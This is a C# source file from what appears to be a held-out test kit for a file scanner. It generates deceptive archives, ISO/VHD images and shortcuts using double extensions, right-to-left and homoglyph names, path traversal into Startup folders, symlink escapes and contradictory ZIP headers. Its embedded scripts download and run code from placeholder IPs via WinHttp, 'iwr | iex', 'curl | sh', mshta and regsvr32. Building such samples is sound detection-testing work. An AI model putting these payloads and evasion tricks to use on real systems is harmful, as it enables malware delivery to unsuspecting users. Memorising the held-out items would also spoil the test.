using System.Buffers.Binary;
using System.Text;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>An archive with a single file whose name says that it is a paper and whose kind is one that runs.</summary>
public sealed class ArchiveWithBaitedName : SixthRound
{
    private const string Script = """
        var u = "http://192.0.2.151/d/7";
        var h = new ActiveXObject("WinHttp.WinHttpRequest.5.1");
        h.Open("GET", u, false); h.Send();
        var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(h.ResponseBody);
        var t = new ActiveXObject("WScript.Shell"); var f = t.ExpandEnvironmentStrings("%APPDATA%\\d7.exe");
        s.SaveToFile(f, 2); t.Run(f, 0);
        """;

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Invoice_11_2026.zip", InertFiles.Zip(("Invoice_11_2026.pdf.exe", Carriers.Program())));

        yield return ("Lieferung.7z", Carriers.Packed("l.7z", "-t7z", ("Lieferschein_\u202Efdp.scr", Carriers.Program())));

        yield return ("DHL_AWB_8831.tar.gz", Tarred("DHL_AWB_8831.pdf" + new string(' ', 90) + ".js", Dos(Script)));

        // An archive in an archive; the name has Cyrillic letters, the kind is one that few know.
        yield return ("scan.zip", InertFiles.Zip(("scan_0001.zip", InertFiles.Zip(("Sсan_dоcument.pdf.wsf", Dos($"<package><job id=\"x\"><script language=\"JScript\"><![CDATA[{Script}]]></script></job></package>")))), ("readme.txt", Dos("Unpack and open the document."))));
    }

    private static byte[] Tarred(string name, byte[] content)
    {
        using var file = new MemoryStream();
        using (var gzip = new System.IO.Compression.GZipStream(file, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true))
        using (var tar = new System.Formats.Tar.TarWriter(gzip))
            tar.WriteEntry(new System.Formats.Tar.GnuTarEntry(System.Formats.Tar.TarEntryType.RegularFile, name) { DataStream = new MemoryStream(content) });
        return file.ToArray();
    }
}

/// <summary>An archive whose member's name leads out of the folder it is unpacked to, or that makes a viewer start the wrong member.</summary>
public sealed class ArchiveThatEscapes : SixthRound
{
    private static readonly byte[] Starter = Dos("@echo off\nstart /min powershell -w hidden -c \"iwr http://203.0.113.161/u.ps1 | iex\"\n");

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("theme.zip", InertFiles.Zip(
            ("theme/style.css", Dos("body { color: #222; }\n")),
            ("../../../../../../AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/update.bat", Starter)));

        yield return ("trading_strategy.rar.zip", InertFiles.Zip(
            ("Strategy.pdf ", PdfBuilder.Document()),
            ("Strategy.pdf /Strategy.pdf .cmd", Starter)));

        yield return ("Lebenslauf_Hansen.rar", RarBuilder.Rar5("Lebenslauf_Hansen.pdf:..\\..\\..\\..\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\Updater.lnk",
            new LinkBuilder().To("C:\\Windows\\System32\\rundll32.exe").With("%LOCALAPPDATA%\\msedge.dll,Start").Build()));

        // A link to a folder outside, and a member that goes through the link.
        using var file = new MemoryStream();
        using (var tar = new System.Formats.Tar.TarWriter(file, leaveOpen: true))
        {
            tar.WriteEntry(new System.Formats.Tar.PaxTarEntry(System.Formats.Tar.TarEntryType.SymbolicLink, "backup/assets") { LinkName = "../../../../home/deploy" });
            tar.WriteEntry(new System.Formats.Tar.PaxTarEntry(System.Formats.Tar.TarEntryType.RegularFile, "backup/assets/.config/autostart/sync.desktop")
            {
                DataStream = new MemoryStream(Utf8("[Desktop Entry]\nType=Application\nName=Sync\nExec=sh -c \"curl -fsSL http://198.51.100.161/s.sh | sh\"\nX-GNOME-Autostart-enabled=true\n")),
            });
        }
        yield return ("backup.tar", file.ToArray());
    }
}

/// <summary>An archive that shows one program another content than the next: two archives in one, headers that differ, data that no header names.</summary>
public sealed class ArchiveThatContradictsItself : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("SHIPPING_INV_PL_BL.zip", [.. InertFiles.Zip(("order.jpg", Carriers.Photograph([], []))), .. InertFiles.Zip(("SHIPPING_INV_PL_BL.exe", Carriers.Program()))]);

        // The local header says that it is a text, the directory that it is a program.
        var mixed = InertFiles.Zip(("statement_2026.exe", Carriers.Program()));
        Encoding.ASCII.GetBytes("statement_2026.txt").CopyTo(mixed, mixed.AsSpan().IndexOf("statement_2026.exe"u8));
        yield return ("statement_2026.zip", mixed);

        yield return ("Foto_Unfall.jpg", Carriers.Photograph([], InertFiles.Zip(("Foto_Unfall.vbs", Dos("CreateObject(\"WScript.Shell\").Run \"mshta http://203.0.113.171/f.hta\", 0")))));

        // A whole archive lies between the last member and the directory, and the end's offset steps over it.
        var outer = InertFiles.Zip(("notes.txt", Dos("Run: more than meets the eye\n")), ("open.bat", Dos("@echo off\ncopy /b \"%~dp0docs.zip\" %temp%\\d.zip >nul & tar -xf %temp%\\d.zip -C %temp% & start %temp%\\viewer.exe\n")));
        var end = outer.AsSpan().LastIndexOf("PK\u0005\u0006"u8);
        var directory = BinaryPrimitives.ReadInt32LittleEndian(outer.AsSpan(end + 16));
        var hidden = InertFiles.Zip(("viewer.exe", Carriers.Program()));
        byte[] whole = [.. outer[..directory], .. hidden, .. outer[directory..]];
        BinaryPrimitives.WriteInt32LittleEndian(whole.AsSpan(end + hidden.Length + 16), directory + hidden.Length);
        yield return ("docs.zip", whole);
    }
}

/// <summary>A disc image or virtual disk with a shortcut to see and the library or program hidden beside it.</summary>
public sealed class DiscWithHiddenPart : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Documents_7781.iso", Carriers.Disc("DOCUMENTS", ["namr.dll"],
            ("Documents.lnk", new LinkBuilder().To("C:\\Windows\\System32\\cmd.exe").With("/c start rundll32 namr.dll,IternalJob").Icon("C:\\Windows\\System32\\shell32.dll").Build()),
            ("namr.dll", new PeBuilder().Exporting("namr.dll", "IternalJob").WithOverlay(Carriers.Program()).Build())));

        yield return ("Bewerbung_Lang.img", Carriers.Disc("BEWERBUNG", ["version.dll", "daten"],
            ("Bewerbung_Lang.exe", new PeBuilder().Importing("VERSION.dll", "GetFileVersionInfoW", "VerQueryValueW").WithData("OneDrive standalone updater").Build()),
            ("version.dll", new PeBuilder().Exporting("VERSION.dll", "GetFileVersionInfoW", "VerQueryValueW").WithOverlay(Carriers.Program()).Build()),
            ("daten/b.pdf", PdfBuilder.Document())));

        yield return ("Contract.vhd", Carriers.Vhd(Carriers.Volume(["run.js"],
            ("Contract.lnk", new LinkBuilder().To("C:\\Windows\\System32\\wscript.exe").With("run.js").Icon("C:\\Program Files\\Adobe\\Acrobat.exe").Build()),
            ("run.js", Dos("var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c curl -o %tmp%\\\\x.dll http://192.0.2.181/x & regsvr32 /s %tmp%\\\\x.dll', 0);")))));

        // The image lies in an archive; names carry the blank of no width; a batch in a deep folder joins the library from two halves.
        var library = new PeBuilder().Exporting("d.dll", "Go").WithOverlay(Carriers.Program()).Build();
        yield return ("scan_22-11.zip", InertFiles.Zip(("scan_22-11.iso", Carriers.Disc("SCAN", ["a", "x"],
            ("Scan 22-11.lnk", new LinkBuilder().To("C:\\Windows\\System32\\conhost.exe").With("--headless cmd /c a\\b\\c\\r.bat").Build()),
            ("a/b/c/r.bat", Dos("@copy /b x\\1.dat+x\\2.dat %localappdata%\\d.dat>nul\n@%windir%\\system32\\odbcconf /s /a {regsvr \"%localappdata%\\d.dat\"}\n")),
            ("x/1.dat", library[..600]),
            ("x/2.dat", library[600..])))));
    }
}
